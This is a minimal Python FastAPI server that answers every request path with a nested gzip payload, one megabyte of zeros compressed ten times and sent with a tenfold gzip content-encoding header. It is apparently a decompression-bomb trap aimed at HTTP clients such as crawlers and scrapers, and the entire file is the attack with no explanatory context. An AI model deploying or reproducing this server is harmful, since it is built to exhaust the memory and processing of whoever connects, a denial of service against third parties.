import gzip

from fastapi import FastAPI, Response

bomb = bytes(1_000_000)
for _ in range(10):
    bomb = gzip.compress(bomb)
app = FastAPI()


@app.get("/{path:path}")
def read(path: str):
    return Response(bomb, headers={"content-encoding": ", ".join(["gzip"] * 10)})
